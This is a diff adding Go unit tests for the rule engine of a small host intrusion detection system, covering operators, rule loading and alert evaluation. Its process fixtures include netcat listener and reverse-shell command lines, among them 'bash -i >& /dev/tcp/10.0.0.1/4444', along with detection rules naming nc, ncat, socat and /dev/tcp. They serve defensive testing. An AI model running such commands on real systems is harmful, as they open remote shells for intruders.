@@ -0,0 +1,397 @@
+package rules
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"mini-hids/server/storage"
+)
+
+// parseRule 解析并编译 JSON 规则，数值与从文件加载时一样是 float64
+func parseRule(t *testing.T, text string) *Rule {
+	t.Helper()
+	var rule Rule
+	if err := json.Unmarshal([]byte(text), &rule); err != nil {
+		t.Fatal(err)
+	}
+	if err := rule.compile(); err != nil {
+		t.Fatalf("compile %s: %v", text, err)
+	}
+	return &rule
+}
+
+// parseItem 解析 JSON 数据条目
+func parseItem(t *testing.T, text string) map[string]interface{} {
+	t.Helper()
+	var item map[string]interface{}
+	if err := json.Unmarshal([]byte(text), &item); err != nil {
+		t.Fatal(err)
+	}
+	return item
+}
+
+func TestConditionOperators(t *testing.T) {
+	item := `{
+		"name": "nc", "exe": "/usr/bin/nc", "uid": 0, "port": 4444,
+		"cpu": "12.5%", "cmdline": "nc -lvp 4444",
+		"args": ["-l", "-v"], "empty": null,
+		"children": [{"name": "sh", "uid": 1000}, {"name": "bash", "uid": 0}]
+	}`
+
+	tests := []struct {
+		name string
+		cond string
+		want bool
+	}{
+		{"equals string", `{"field": "name", "op": "equals", "value": "nc"}`, true},
+		{"equals number", `{"field": "uid", "op": "equals", "value": 0}`, true},
+		{"equals number as string", `{"field": "port", "op": "equals", "value": "4444"}`, true},
+		{"equals miss", `{"field": "name", "op": "equals", "value": "ncat"}`, false},
+		{"not_equals", `{"field": "name", "op": "not_equals", "value": "ssh"}`, true},
+		{"not_equals miss", `{"field": "name", "op": "not_equals", "value": "nc"}`, false},
+		{"contains", `{"field": "cmdline", "op": "contains", "value": "-lvp"}`, true},
+		{"contains miss", `{"field": "cmdline", "op": "contains", "value": "-e"}`, false},
+		{"not_contains", `{"field": "cmdline", "op": "not_contains", "value": "-e"}`, true},
+		{"not_contains miss", `{"field": "cmdline", "op": "not_contains", "value": "4444"}`, false},
+		{"prefix", `{"field": "exe", "op": "prefix", "value": "/usr/"}`, true},
+		{"prefix miss", `{"field": "exe", "op": "prefix", "value": "/tmp/"}`, false},
+		{"suffix", `{"field": "exe", "op": "suffix", "value": "/nc"}`, true},
+		{"suffix miss", `{"field": "exe", "op": "suffix", "value": "/ncat"}`, false},
+		{"regex", `{"field": "cmdline", "op": "regex", "value": "-l\\w*p\\s+\\d+"}`, true},
+		{"regex miss", `{"field": "cmdline", "op": "regex", "value": "^bash"}`, false},
+		{"in", `{"field": "name", "op": "in", "values": ["nc", "ncat", "socat"]}`, true},
+		{"in number", `{"field": "port", "op": "in", "values": [4444, 31337]}`, true},
+		{"in miss", `{"field": "name", "op": "in", "values": ["ncat", "socat"]}`, false},
+		{"not_in", `{"field": "name", "op": "not_in", "values": ["ssh", "sshd"]}`, true},
+		{"not_in miss", `{"field": "name", "op": "not_in", "values": ["nc"]}`, false},
+		{"gt", `{"field": "port", "op": "gt", "value": 1024}`, true},
+		{"gt equal", `{"field": "port", "op": "gt", "value": 4444}`, false},
+		{"gte equal", `{"field": "port", "op": "gte", "value": 4444}`, true},
+		{"lt", `{"field": "uid", "op": "lt", "value": 1000}`, true},
+		{"lt miss", `{"field": "port", "op": "lt", "value": 1024}`, false},
+		{"lte equal", `{"field": "uid", "op": "lte", "value": 0}`, true},
+		{"gt non-numeric field", `{"field": "name", "op": "gt", "value": 0}`, false},
+		{"exists", `{"field": "exe", "op": "exists"}`, true},
+		{"exists missing", `{"field": "cwd", "op": "exists"}`, false},
+		{"exists null", `{"field": "empty", "op": "exists"}`, false},
+		{"missing field", `{"field": "cwd", "op": "equals", "value": "/"}`, false},
+
+		// "12.5%" 形式的字符串按数值比较
+		{"percent gt", `{"field": "cpu", "op": "gt", "value": 10}`, true},
+		{"percent lte", `{"field": "cpu", "op": "lte", "value": 12.5}`, true},
+		{"percent value", `{"field": "port", "op": "gte", "value": "4444%"}`, true},
+		{"percent lt miss", `{"field": "cpu", "op": "lt", "value": "12.5%"}`, false},
+
+		// 数组字段任一元素满足即可
+		{"array equals", `{"field": "args", "op": "equals", "value": "-v"}`, true},
+		{"array nested", `{"field": "children.name", "op": "equals", "value": "bash"}`, true},
+		{"array nested numeric", `{"field": "children.uid", "op": "gte", "value": 1000}`, true},
+		{"array nested miss", `{"field": "children.name", "op": "equals", "value": "zsh"}`, false},
+
+		// 否定条件要求所有值都不满足
+		{"array not_equals one matches", `{"field": "args", "op": "not_equals", "value": "-l"}`, false},
+		{"array not_equals none match", `{"field": "args", "op": "not_equals", "value": "-e"}`, true},
+		{"array not_contains", `{"field": "children.name", "op": "not_contains", "value": "ba"}`, false},
+		{"array not_in one matches", `{"field": "children.uid", "op": "not_in", "values": [0]}`, false},
+		{"array not_in none match", `{"field": "children.uid", "op": "not_in", "values": [33, 65534]}`, true},
+	}
+
+	data := parseItem(t, item)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule := parseRule(t, `{"id": "r", "severity": "low", "section": "processes", "conditions": [`+tt.cond+`]}`)
+			if got := rule.matches(data); got != tt.want {
+				t.Errorf("%s = %v, want %v", tt.cond, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestResolve(t *testing.T) {
+	item := parseItem(t, `{
+		"a": {"b": [{"c": 1}, {"c": [2, 3]}, {"d": 4}]},
+		"list": [[1, 2], 3],
+		"null": null
+	}`)
+
+	tests := []struct {
+		path string
+		want []interface{}
+	}{
+		{"a.b.c", []interface{}{1.0, 2.0, 3.0}},
+		{"a.b.d", []interface{}{4.0}},
+		{"a.b.e", nil},
+		{"list", []interface{}{[]interface{}{1.0, 2.0}, 3.0}},
+		{"null", nil},
+		{"a.b.c.x", nil},
+		{"missing.path", nil},
+	}
+	for _, tt := range tests {
+		got := resolve(item, strings.Split(tt.path, "."))
+		if len(got) != len(tt.want) {
+			t.Errorf("resolve(%s) = %v, want %v", tt.path, got, tt.want)
+			continue
+		}
+		for i := range got {
+			if toString(got[i]) != toString(tt.want[i]) {
+				t.Errorf("resolve(%s)[%d] = %v, want %v", tt.path, i, got[i], tt.want[i])
+			}
+		}
+	}
+}
+
+func TestToNumber(t *testing.T) {
+	tests := []struct {
+		value interface{}
+		want  float64
+		ok    bool
+	}{
+		{12.5, 12.5, true},
+		{3, 3, true},
+		{"12.5%", 12.5, true},
+		{" 80 % ", 0, false},
+		{" 80%", 80, true},
+		{"1e3", 1000, true},
+		{"abc", 0, false},
+		{"%", 0, false},
+		{true, 0, false},
+		{nil, 0, false},
+	}
+	for _, tt := range tests {
+		got, ok := toNumber(tt.value)
+		if ok != tt.ok || (ok && got != tt.want) {
+			t.Errorf("toNumber(%#v) = %v, %v, want %v, %v", tt.value, got, ok, tt.want, tt.ok)
+		}
+	}
+}
+
+func TestRuleMatchMode(t *testing.T) {
+	item := parseItem(t, `{"name": "nc", "uid": 0}`)
+	hit := `{"field": "name", "op": "equals", "value": "nc"}`
+	miss := `{"field": "uid", "op": "equals", "value": 1000}`
+
+	tests := []struct {
+		match string
+		conds []string
+		want  bool
+	}{
+		{"all", []string{hit, hit}, true},
+		{"all", []string{hit, miss}, false},
+		{"", []string{miss, hit}, false},
+		{"any", []string{miss, hit}, true},
+		{"any", []string{miss, miss}, false},
+		{"any", []string{hit}, true},
+	}
+	for _, tt := range tests {
+		rule := parseRule(t, `{"id": "r", "severity": "low", "section": "processes", "match": "`+tt.match+
+			`", "conditions": [`+strings.Join(tt.conds, ",")+`]}`)
+		if got := rule.matches(item); got != tt.want {
+			t.Errorf("match %q %v = %v, want %v", tt.match, tt.conds, got, tt.want)
+		}
+	}
+}
+
+func TestRuleMatchShortCircuit(t *testing.T) {
+	item := parseItem(t, `{"name": "nc"}`)
+
+	// 未编译的 regex 条件一旦被执行就会因 regex 为 nil 而 panic
+	unreachable := Condition{Field: "name", Op: OpRegex, Value: "nc"}
+	tests := []struct {
+		match string
+		first string
+		want  bool
+	}{
+		{"any", `{"field": "name", "op": "equals", "value": "nc"}`, true},
+		{"all", `{"field": "name", "op": "equals", "value": "ssh"}`, false},
+	}
+	for _, tt := range tests {
+		rule := parseRule(t, `{"id": "r", "severity": "low", "section": "processes", "match": "`+tt.match+
+			`", "conditions": [`+tt.first+`]}`)
+		rule.Conditions = append(rule.Conditions, unreachable)
+
+		func() {
+			defer func() {
+				if r := recover(); r != nil {
+					t.Errorf("match %s evaluated the condition after the deciding one: %v", tt.match, r)
+				}
+			}()
+			if got := rule.matches(item); got != tt.want {
+				t.Errorf("match %s = %v, want %v", tt.match, got, tt.want)
+			}
+		}()
+	}
+}
+
+func TestCompileErrors(t *testing.T) {
+	tests := []struct {
+		rule string
+		err  string
+	}{
+		{`{"severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "exists"}]}`, "id is required"},
+		{`{"id": "r", "severity": "urgent", "section": "processes", "conditions": [{"field": "name", "op": "exists"}]}`, "severity"},
+		{`{"id": "r", "section": "processes", "conditions": [{"field": "name", "op": "exists"}]}`, "severity"},
+		{`{"id": "r", "severity": "low", "conditions": [{"field": "name", "op": "exists"}]}`, "section is required"},
+		{`{"id": "r", "severity": "low", "section": "processes", "match": "some", "conditions": [{"field": "name", "op": "exists"}]}`, "match must be all or any"},
+		{`{"id": "r", "severity": "low", "section": "processes"}`, "at least one condition"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"op": "exists"}]}`, "field is required"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "like", "value": "x"}]}`, "unknown op"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "equals"}]}`, "equals requires value"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "not_contains"}]}`, "not_contains requires value"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "regex", "value": 1}]}`, "regex requires a string value"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "regex", "value": "("}]}`, "missing closing )"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "in"}]}`, "in requires values"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "not_in", "values": []}]}`, "not_in requires values"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "cpu", "op": "gt", "value": "high"}]}`, "gt requires a numeric value"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "cpu", "op": "lte"}]}`, "lte requires a numeric value"},
+		{`{"id": "r", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "exists"}, {"field": "name", "op": "gte", "value": true}]}`, "condition 1"},
+	}
+	for _, tt := range tests {
+		var rule Rule
+		if err := json.Unmarshal([]byte(tt.rule), &rule); err != nil {
+			t.Fatal(err)
+		}
+		err := rule.compile()
+		if err == nil || !strings.Contains(err.Error(), tt.err) {
+			t.Errorf("compile %s: error %v, want %q", tt.rule, err, tt.err)
+		}
+	}
+}
+
+// writeRules 在目录中写入规则文件
+func writeRules(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestLoadDir(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, map[string]string{
+		"a.json": `{"id": "single", "severity": "high", "section": "processes",
+			"conditions": [{"field": "name", "op": "equals", "value": "nc"}]}`,
+		"b.json": `[
+			{"id": "first", "severity": "low", "section": "network", "conditions": [{"field": "remote_port", "op": "equals", "value": 4444}]},
+			{"id": "second", "severity": "medium", "section": "system", "enabled": false, "conditions": [{"field": "hostname", "op": "exists"}]}
+		]`,
+		"notes.txt": `not a rule`,
+	})
+
+	rules, err := LoadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var ids []string
+	for _, rule := range rules {
+		ids = append(ids, rule.ID+"@"+rule.Source)
+	}
+	if got := strings.Join(ids, ","); got != "single@a.json,first@b.json,second@b.json" {
+		t.Errorf("loaded %s", got)
+	}
+	if rules[0].Name != "single" || rules[0].Match != "all" {
+		t.Errorf("defaults not applied: name %q, match %q", rules[0].Name, rules[0].Match)
+	}
+	if rules[2].IsEnabled() {
+		t.Error("disabled rule reported as enabled")
+	}
+}
+
+func TestLoadDirDuplicateIDs(t *testing.T) {
+	dir := t.TempDir()
+	rule := `{"id": "dup", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "exists"}]}`
+	writeRules(t, dir, map[string]string{
+		"a.json": rule,
+		"b.json": "[" + rule + "]",
+	})
+
+	_, err := LoadDir(dir)
+	if err == nil {
+		t.Fatal("LoadDir accepted duplicate rule IDs across files")
+	}
+	if msg := err.Error(); !strings.Contains(msg, `duplicate rule id "dup"`) || !strings.Contains(msg, "a.json") || !strings.Contains(msg, "b.json") {
+		t.Errorf("error = %v", err)
+	}
+}
+
+func TestLoadDirInvalidFile(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, map[string]string{
+		"good.json":   `{"id": "good", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "exists"}]}`,
+		"bad.json":    `{"id": "bad", "severity": "low", "section": "processes", "conditions": [{"field": "name", "op": "regex", "value": "["}]}`,
+		"syntax.json": `{"id": `,
+	})
+
+	_, err := LoadDir(dir)
+	if err == nil {
+		t.Fatal("LoadDir accepted invalid rule files")
+	}
+	if msg := err.Error(); !strings.Contains(msg, `bad.json: rule "bad"`) || !strings.Contains(msg, "syntax.json") {
+		t.Errorf("error = %v", err)
+	}
+}
+
+func TestEngineEvaluate(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, map[string]string{
+		"rules.json": `[
+			{"id": "reverse-shell", "severity": "critical", "section": "processes", "match": "any",
+			 "conditions": [{"field": "name", "op": "in", "values": ["nc", "ncat"]}, {"field": "cmdline", "op": "contains", "value": "/dev/tcp/"}]},
+			{"id": "high-cpu", "severity": "low", "section": "system", "conditions": [{"field": "cpu_usage", "op": "gt", "value": 90}]},
+			{"id": "disabled", "severity": "low", "section": "processes", "enabled": false, "conditions": [{"field": "name", "op": "exists"}]}
+		]`,
+	})
+	engine, err := NewEngine(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var data map[string]interface{}
+	if err := json.Unmarshal([]byte(`{
+		"processes": [
+			{"pid": 1, "name": "systemd", "cmdline": "/sbin/init"},
+			{"pid": 2, "name": "nc", "cmdline": "nc -e /bin/sh"},
+			{"pid": 3, "name": "bash", "cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
+			"not an object"
+		],
+		"system": {"cpu_usage": "95.5%"}
+	}`), &data); err != nil {
+		t.Fatal(err)
+	}
+
+	matches := engine.Evaluate(storage.AgentData{AgentID: "agent-1", Hostname: "web-01", Data: data})
+	var got []string
+	for _, m := range matches {
+		got = append(got, m.RuleID+":"+toString(m.Evidence["pid"]))
+		if m.AgentID != "agent-1" || m.Hostname != "web-01" {
+			t.Errorf("match %s has agent %s/%s", m.RuleID, m.AgentID, m.Hostname)
+		}
+	}
+	if s := strings.Join(got, ","); s != "reverse-shell:2,reverse-shell:3,high-cpu:" {
+		t.Errorf("matches = %s", s)
+	}
+}
+
+func TestEngineMatchLimit(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, map[string]string{
+		"rules.json": `{"id": "any-process", "severity": "low", "section": "processes", "conditions": [{"field": "pid", "op": "exists"}]}`,
+	})
+	engine, err := NewEngine(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	procs := make([]interface{}, maxMatchesPerRule+50)
+	for i := range procs {
+		procs[i] = map[string]interface{}{"pid": float64(i)}
+	}
+	matches := engine.Evaluate(storage.AgentData{Data: map[string]interface{}{"processes": procs}})
+	if len(matches) != maxMatchesPerRule {
+		t.Errorf("%d matches, want %d", len(matches), maxMatchesPerRule)
+	}
+}